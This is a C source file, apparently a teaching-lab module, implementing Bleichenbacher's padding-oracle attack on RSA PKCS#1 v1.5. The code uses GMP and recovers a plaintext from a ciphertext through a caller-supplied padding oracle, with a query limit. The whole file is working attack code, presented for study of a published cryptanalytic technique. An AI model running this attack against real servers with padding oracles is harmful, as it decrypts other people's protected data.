/*
 * lab/bleichenbacher.c -- LAB ONLY: Bleichenbacher's 1998 attack
 * (lab/bleichenbacher.h), steps 1-4 of the paper with s0 = 1 (the given
 * ciphertext is already PKCS conforming, so step 1's blinding is skipped).
 */
#include <gmp.h>
#include <string.h>
#include "lab/bleichenbacher.h"

#define MAX_INTERVALS 64

struct bb {
    const rsa_key *pub;
    mpz_t c, B2, B3, n;          /* the ciphertext, 2B, 3B, n */
    size_t k;
    uint8_t buf[RSA_MAX_BYTES];
    lab_bb_oracle_fn oracle;
    void *arg;
    unsigned long queries, max;
    cl_status failed;
};

/* Is c * s^e mod n PKCS conforming?  1, 0, or -1 (a->failed says why). */
static int conforming(struct bb *a, const mpz_t s)
{
    mpz_t x;
    if (a->queries >= a->max) {
        a->failed = CL_ERR_LAB_QUERY_LIMIT;
        return -1;
    }
    mpz_init(x);
    mpz_powm(x, s, a->pub->e, a->n);          /* public values only */
    mpz_mul(x, x, a->c);
    mpz_mod(x, x, a->n);
    rsa_i2osp(x, a->k, a->buf);
    mpz_clear(x);
    a->queries++;
    int r = a->oracle(a->arg, a->buf, a->k);
    if (r < 0)
        a->failed = CL_ERR_LAB_NO_ORACLE;
    return r;
}

/* Steps 2.a and 2.b: the smallest s >= start that is conforming. */
static int search_from(struct bb *a, mpz_t s, const mpz_t start)
{
    mpz_set(s, start);
    for (;;) {
        int r = conforming(a, s);
        if (r != 0)
            return r;
        mpz_add_ui(s, s, 1);
    }
}

/* ceil(x / y) for positive y */
static void cdiv(mpz_t q, const mpz_t x, const mpz_t y)
{
    mpz_cdiv_q(q, x, y);
}

struct interval {
    mpz_t a, b;
};

cl_status lab_bb_attack(const rsa_key *pub, const uint8_t *c, size_t c_len, lab_bb_oracle_fn oracle,
                        void *oracle_arg, lab_bb_trace_fn trace, void *trace_arg, unsigned long max_queries,
                        uint8_t *m, unsigned long *queries)
{
    static struct bb a;
    static struct interval M[MAX_INTERVALS], N[MAX_INTERVALS];
    size_t nM = 1, nN;
    mpz_t s, t, r, lo, hi, x, y;
    cl_status st = CL_OK;

    if (pub == NULL || c == NULL || oracle == NULL || m == NULL)
        return CL_ERR_NULL_POINTER;
    a.k = rsa_key_bytes(pub);
    if (c_len != a.k || a.k < 16)
        return CL_ERR_INPUT_LENGTH;
    a.pub = pub;
    a.oracle = oracle;
    a.arg = oracle_arg;
    a.queries = 0;
    a.max = max_queries;
    a.failed = CL_OK;
    mpz_inits(a.c, a.B2, a.B3, a.n, s, t, r, lo, hi, x, y, NULL);
    for (size_t i = 0; i < MAX_INTERVALS; i++) {
        mpz_inits(M[i].a, M[i].b, NULL);
        mpz_inits(N[i].a, N[i].b, NULL);
    }
    mpz_set(a.n, pub->n);
    rsa_os2ip(a.c, c, c_len);
    mpz_ui_pow_ui(a.B2, 2, 8 * (a.k - 2));                /* B */
    mpz_mul_ui(a.B3, a.B2, 3);                            /* 3B */
    mpz_mul_ui(a.B2, a.B2, 2);                            /* 2B */

    /* Step 1 (s0 = 1): M0 = {[2B, 3B - 1]}. */
    mpz_set(M[0].a, a.B2);
    mpz_sub_ui(M[0].b, a.B3, 1);

    for (unsigned long i = 1;; i++) {
        int rr;
        if (i == 1) {                                     /* 2.a: s1 >= n / 3B */
            cdiv(t, a.n, a.B3);
            rr = search_from(&a, s, t);
            if (trace)
                trace(trace_arg, "2.a", i, nM, 0, a.queries);
        } else if (nM > 1) {                              /* 2.b: several intervals left */
            mpz_add_ui(t, s, 1);
            rr = search_from(&a, s, t);
            if (trace)
                trace(trace_arg, "2.b", i, nM, 0, a.queries);
        } else {                                          /* 2.c: one interval [a, b] */
            /* r >= 2 (b s - 2B) / n; s in [(2B + r n) / b, (3B + r n) / a) */
            mpz_mul(t, M[0].b, s);
            mpz_sub(t, t, a.B2);
            mpz_mul_ui(t, t, 2);
            cdiv(r, t, a.n);
            rr = 0;
            while (rr == 0) {
                mpz_mul(x, r, a.n);
                mpz_add(lo, a.B2, x);
                cdiv(lo, lo, M[0].b);
                mpz_add(hi, a.B3, x);
                cdiv(hi, hi, M[0].a);                     /* s < hi */
                for (mpz_set(s, lo); mpz_cmp(s, hi) < 0; mpz_add_ui(s, s, 1)) {
                    rr = conforming(&a, s);
                    if (rr != 0)
                        break;
                }
                mpz_add_ui(r, r, 1);
            }
            if (trace)
                trace(trace_arg, "2.c", i, nM, 0, a.queries);
        }
        if (rr < 0) {
            st = a.failed;
            break;
        }
        /* Step 3: narrow every interval with the conforming s. */
        nN = 0;
        for (size_t j = 0; j < nM && st == CL_OK; j++) {
            /* r from (a s - 3B + 1) / n to (b s - 2B) / n */
            mpz_mul(t, M[j].a, s);
            mpz_sub(t, t, a.B3);
            mpz_add_ui(t, t, 1);
            cdiv(lo, t, a.n);
            mpz_mul(t, M[j].b, s);
            mpz_sub(t, t, a.B2);
            mpz_fdiv_q(hi, t, a.n);
            for (mpz_set(r, lo); mpz_cmp(r, hi) <= 0; mpz_add_ui(r, r, 1)) {
                mpz_mul(x, r, a.n);
                mpz_add(t, a.B2, x);                      /* max(a, ceil((2B + r n) / s)) */
                cdiv(t, t, s);
                if (mpz_cmp(t, M[j].a) < 0)
                    mpz_set(t, M[j].a);
                mpz_add(y, a.B3, x);                      /* min(b, floor((3B - 1 + r n) / s)) */
                mpz_sub_ui(y, y, 1);
                mpz_fdiv_q(y, y, s);
                if (mpz_cmp(y, M[j].b) > 0)
                    mpz_set(y, M[j].b);
                if (mpz_cmp(t, y) > 0)
                    continue;
                size_t q;                                 /* merge with an overlapping interval */
                for (q = 0; q < nN; q++)
                    if (mpz_cmp(t, N[q].b) <= 0 && mpz_cmp(y, N[q].a) >= 0)
                        break;
                if (q < nN) {
                    if (mpz_cmp(t, N[q].a) < 0)
                        mpz_set(N[q].a, t);
                    if (mpz_cmp(y, N[q].b) > 0)
                        mpz_set(N[q].b, y);
                } else if (nN < MAX_INTERVALS) {
                    mpz_set(N[nN].a, t);
                    mpz_set(N[nN].b, y);
                    nN++;
                } else {
                    st = CL_ERR_LAB_NO_ORACLE;
                    break;
                }
            }
        }
        if (st != CL_OK)
            break;
        if (nN == 0) {                                    /* no interval left: the answers lied */
            st = CL_ERR_LAB_NO_ORACLE;
            break;
        }
        for (size_t j = 0; j < nN; j++) {
            mpz_swap(M[j].a, N[j].a);
            mpz_swap(M[j].b, N[j].b);
        }
        nM = nN;
        if (trace) {
            mpz_sub(t, M[0].b, M[0].a);
            trace(trace_arg, "3", i, nM, mpz_sgn(t) ? mpz_sizeinbase(t, 2) : 0, a.queries);
        }
        /* Step 4: one interval of one number: m = a (s0 = 1). */
        if (nM == 1 && mpz_cmp(M[0].a, M[0].b) == 0) {
            mpz_powm(t, M[0].a, pub->e, a.n);             /* check: m^e = c */
            if (mpz_cmp(t, a.c) != 0)
                st = CL_ERR_LAB_NO_ORACLE;
            else
                st = rsa_i2osp(M[0].a, a.k, m);
            break;
        }
    }
    if (queries)
        *queries = a.queries;
    for (size_t i = 0; i < MAX_INTERVALS; i++) {
        mpz_clears(M[i].a, M[i].b, NULL);
        mpz_clears(N[i].a, N[i].b, NULL);
    }
    mpz_clears(a.c, a.B2, a.B3, a.n, s, t, r, lo, hi, x, y, NULL);
    return st;
}
